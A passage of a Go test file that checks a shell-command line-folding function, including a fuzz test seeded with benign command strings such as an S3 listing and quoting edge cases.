		assert.LessOrEqual(t, len([]rune(line)), 60)
		whole.WriteString(strings.TrimSuffix(line, Folded))
	}
	assert.Equal(t, strings.ReplaceAll(Show(text), "\n", ""), whole.String())
}

func FuzzFold(f *testing.F) {
	for _, seed := range []string{"aws s3 ls 'a b' | sort", "a\\\nb", "x  y\t\"z\" # c", "$(a) \\ b"} {
		f.Add(seed, 20)
	}
	f.Fuzz(func(t *testing.T, text string, width int) {
		width = 10 + max(0, width)%100
		folded := strings.Join(Fold(text, width), "\n")
		for _, r := range folded {
			assert.True(t, r == '\n' || r == '\t' || r == '↵' || r >= ' ' && r <= '~', "%q", folded)
		}
		if want, ok := parse(Show(text)); ok && !Classify(text).has(Disguised) {
			got, ok := parse(folded)
			assert.True(t, ok, folded)
			assert.Equal(t, want.commands, got.commands, folded)
		}
	})
}
